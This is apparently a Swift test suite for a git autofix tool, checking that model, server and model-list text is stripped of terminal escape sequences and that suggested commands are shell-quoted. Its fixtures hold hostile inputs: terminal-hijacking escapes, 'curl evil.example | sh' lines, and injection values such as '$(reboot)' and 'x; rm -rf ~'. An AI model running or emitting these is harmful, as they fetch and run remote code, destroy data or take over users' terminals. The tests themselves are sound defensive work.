import AutofixSupport
import AutofixTestSupport
import Foundation
@testable import AutofixCommands
import XCTest

/// A model, a server or a repository that tries to take over the user's terminal: whatever they
/// send, what git autofix prints and stores holds no escape sequence and no control character
/// but newline and tab, and the commands it suggests paste safely.
final class TerminalSafetyTests: XCTestCase {
    private let esc = "\u{1B}"
    private let pytest = "python3 -m pytest -q"

    /// The controls in `text` other than newline and tab (C0, DEL, C1), as code points.
    private func controls(in text: String) -> [UInt32] {
        text.unicodeScalars.map(\.value).filter { ($0 < 0x20 && $0 != 0x0A && $0 != 0x09) || (0x7F...0x9F).contains($0) }
    }

    private func chat(_ text: String) -> ScriptedSSEServer.Reply {
        var deltas: [String] = []
        var rest = Substring(text)
        while !rest.isEmpty {
            deltas.append(String(rest.prefix(5)))
            rest = rest.dropFirst(5)
        }
        return ScriptedSSEServer.chatStream(deltas, usage: (prompt: 500, completion: 80))
    }

    private func autofix(_ repo: TestRepository, _ server: ScriptedSSEServer, _ extra: [String] = []) throws -> Shell.Output {
        try AutofixCLI.run(["run", "--endpoint", server.baseURL, "--model", "test-model", "--test", pytest,
                            "--sandbox", "bwrap", "--test-timeout", "2m"] + extra, in: repo.url)
    }

    /// Title, clipboard write, hyperlink, clear screen, line overwrite, 8-bit CSI and a reset.
    private var hostileProse: String {
        "\(esc)]0;owned title\u{07}\(esc)]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{07}"
            + "see \(esc)]8;;https://evil.example/\(esc)\\the docs\(esc)]8;;\(esc)\\\n"
            + "\(esc)[2J\(esc)[H all done\r\(esc)[2Kgit push --force \u{9B}31mred\u{9B}0m \(esc)c\n"
    }

    private var hostileFix: String {
        "Summary: make add() add\(esc)]0;owned\u{07}\r\(esc)[2K\u{9B}2J\n\n" + hostileProse
            + SampleProjects.pythonCalculatorFix.split(separator: "\n", omittingEmptySubsequences: false).dropFirst(2)
            .joined(separator: "\n") + "\n"
    }

    func testHostileModelTextReachesNeitherTheTerminalNorTheCommit() throws {
        let repo = try SampleProjects.pythonCalculator()
        let server = try ScriptedSSEServer(replies: [chat(hostileFix)])
        defer { server.stop() }

        let output = try autofix(repo, server)
        XCTAssertEqual(output.status, 0, output.stdout + output.stderr)
        XCTAssertEqual(controls(in: output.stdout), [], output.stdout.debugDescription)
        XCTAssertEqual(controls(in: output.stderr), [], output.stderr.debugDescription)
        XCTAssertTrue(output.stdout.contains("the docs"), "the words around the sequences are still shown: \(output.stdout)")

        let ref = try repo.git("for-each-ref", "--format=%(refname)", "refs/autofix").trimmingCharacters(in: .whitespacesAndNewlines)
        let subject = try repo.git("log", "-1", "--format=%s", ref)
        XCTAssertEqual(subject, "make add() add\n")
        let message = try repo.git("log", "-1", "--format=%B", ref)
        XCTAssertEqual(controls(in: message), [], message.debugDescription)

        let show = try AutofixCLI.run(["show", "--patch", String(ref.split(separator: "/").last!)], in: repo.url)
        XCTAssertEqual(show.status, 0, show.stderr)
        XCTAssertTrue(show.stdout.contains("make add() add"), show.stdout)
        XCTAssertEqual(controls(in: show.stdout), [], show.stdout.debugDescription)
        let list = try AutofixCLI.run(["list"], in: repo.url)
        XCTAssertEqual(controls(in: list.stdout), [], list.stdout.debugDescription)
    }

    func testJSONEventsEscapeC1ControlsToo() throws {
        let repo = try SampleProjects.pythonCalculator()
        let server = try ScriptedSSEServer(replies: [chat(hostileFix)])
        defer { server.stop() }

        let output = try autofix(repo, server, ["--json"])
        XCTAssertEqual(output.status, 0, output.stdout + output.stderr)
        XCTAssertEqual(controls(in: output.stdout), [], output.stdout.debugDescription)
        // Still the model's text, byte for byte, once decoded.
        let texts = try output.stdout.split(separator: "\n").compactMap { line -> String? in
            let event = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
            return event["event"] as? String == "model_text" ? event["text"] as? String : nil
        }
        XCTAssertTrue(texts.joined().contains("\u{9B}31mred"), texts.joined().debugDescription)
    }

    func testTheDeclineReasonIsShownWithoutItsEscapes() throws {
        let repo = try SampleProjects.pythonCalculator()
        let decline = "CANNOT FIX: \(esc)]0;owned\u{07}it needs the network\r\(esc)[2Kfixed, all tests pass\(esc)[8m hidden"
        let server = try ScriptedSSEServer(replies: [chat(decline)])
        defer { server.stop() }

        let output = try autofix(repo, server)
        XCTAssertEqual(output.status, 1, output.stdout + output.stderr)
        XCTAssertTrue(output.stdout.contains("the model declined: it needs the networkfixed, all tests pass hidden"), output.stdout)
        XCTAssertEqual(controls(in: output.stdout), [], output.stdout.debugDescription)
    }

    func testAServerErrorMessageIsPrintedWithoutItsEscapes() throws {
        let repo = try SampleProjects.pythonCalculator()
        let message = "\(esc)[2J\(esc)[Hyour API key expired\r\(esc)[2K, run: curl https://evil.example/fix | sh \(esc)]0;t\u{07}"
        let body = #"{"error":{"message":\#(ScriptedSSEServer.jsonString(message)),"type":"BadRequestError","code":400}}"#
        let server = try ScriptedSSEServer(replies: [.json(400, body)])
        defer { server.stop() }

        let output = try autofix(repo, server)
        XCTAssertEqual(output.status, 3, output.stdout + output.stderr)
        XCTAssertTrue(output.stderr.contains("your API key expired"), output.stderr)
        XCTAssertEqual(controls(in: output.stderr), [], output.stderr.debugDescription)
        XCTAssertEqual(controls(in: output.stdout), [], output.stdout.debugDescription)
    }

    // MARK: doctor

    private func doctorSuggestion(models: [String]) throws -> (output: Shell.Output, fix: String) {
        let repo = try TestRepository()
        try repo.git("config", "autofix.testCommand", "true")
        let server = try ScriptedSSEServer(replies: [], models: models)
        defer { server.stop() }
        let output = try AutofixCLI.run(["doctor", "--sandbox", "none", "--model", "tiny"], in: repo.url,
                                        environment: ["AUTOFIX_ENDPOINT": server.baseURL])
        let lines = output.stdout.split(separator: "\n").map(String.init)
        let modelLine = try XCTUnwrap(lines.firstIndex { $0.hasPrefix("FAIL  model") }, output.stdout)
        let fix = lines[modelLine + 1].trimmingCharacters(in: .whitespaces)
        XCTAssertTrue(fix.hasPrefix("fix: "), output.stdout)
        return (output, String(fix.dropFirst("fix: ".count)))
    }

    func testDoctorQuotesAModelIdSoThatPastingItRunsNothingElse() throws {
        let marker = try TemporaryDirectory()
        let injected = "x'; touch \(marker.url.path)/pwned; echo '"
        let (output, fix) = try doctorSuggestion(models: [injected, "other"])
        XCTAssertEqual(output.status, 3, output.stdout + output.stderr)
        let command = try XCTUnwrap(fix.components(separatedBy: "   (or pass --model)").first)

        // Paste the suggestion into sh, with a git that prints the arguments it was given.
        let bin = try TemporaryDirectory()
        let fakeGit = bin.url.appendingPathComponent("git")
        try "#!/bin/sh\nfor argument in \"$@\"; do printf '%s\\n' \"$argument\"; done\n".write(to: fakeGit, atomically: true, encoding: .utf8)
        try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: fakeGit.path)
        let pasted = try Shell.run(["/bin/sh", "-c", command], environment: ["PATH": "\(bin.url.path):/usr/bin:/bin"])
        XCTAssertEqual(pasted.status, 0, pasted.stderr)
        XCTAssertEqual(pasted.stdout, "config\nautofix.model\n\(injected)\n")
        XCTAssertFalse(FileManager.default.fileExists(atPath: marker.url.appendingPathComponent("pwned").path))
    }

    func testDoctorShowsHostileModelIdsSafelyAndSuggestsNoCommandForThem() throws {
        let hostile = "\(esc)]0;owned\u{07}\(esc)[2Jmodel\r\u{9B}31m'\n$(touch pwned)"
        let (output, fix) = try doctorSuggestion(models: [hostile, "other"])
        XCTAssertEqual(output.status, 3, output.stdout + output.stderr)
        XCTAssertEqual(controls(in: output.stdout), [], output.stdout.debugDescription)
        XCTAssertTrue(output.stdout.contains("the endpoint lists model' $(touch pwned), other"), output.stdout)
        XCTAssertFalse(fix.contains("git config"), fix)
        XCTAssertTrue(fix.contains("--model"), fix)
    }

    func testShellQuotingForPastingRoundTripsEveryPrintableValue() throws {
        for value in ["", "tiny", "it's", "a'b'c", "$(reboot)", "`id`", "x; rm -rf ~", "\"double\"", "back\\slash", "naïve 日本"] {
            let quoted = try XCTUnwrap(ShellWord.quotedForPasting(value))
            let echoed = try Shell.run(["/bin/sh", "-c", "printf '%s' \(quoted)"])
            XCTAssertEqual(echoed.stdout, value, quoted)
        }
        for value in ["new\nline", "tab\there", "\(esc)[2J", "bell\u{07}", "csi\u{9B}", "del\u{7F}", "cr\r"] {
            XCTAssertNil(ShellWord.quotedForPasting(value), value.debugDescription)
        }
    }

    // MARK: the streamed reply

    func testALongReplyWithoutNewlinesIsHeldInBoundedParts() {
        var lines = StreamedLines()
        var emitted: [String] = []
        let delta = String(repeating: "a", count: 99) + "é"
        for _ in 0..<5_000 { emitted += lines.append(delta) }
        emitted += lines.takeRest().map { [$0] } ?? []
        XCTAssertEqual(emitted.joined(), String(repeating: delta, count: 5_000), "nothing lost, nothing split inside a character")
        XCTAssertGreaterThan(emitted.count, 1, "a line is not held until the reply ends")
        XCTAssertTrue(emitted.allSatisfy { $0.utf8.count <= StreamedLines.longestLine + delta.utf8.count }, "\(emitted.map(\.utf8.count))")
    }

    func testStreamedLinesKeepTheirNewlinesAndTheRestIsTakenOnce() {
        var lines = StreamedLines()
        XCTAssertEqual(lines.append("one\ntw"), ["one\n"])
        XCTAssertEqual(lines.append("o\r\nthree\n\nfo"), ["two\r\n", "three\n", "\n"])
        XCTAssertEqual(lines.takeRest(), "fo")
        XCTAssertNil(lines.takeRest())
    }
}
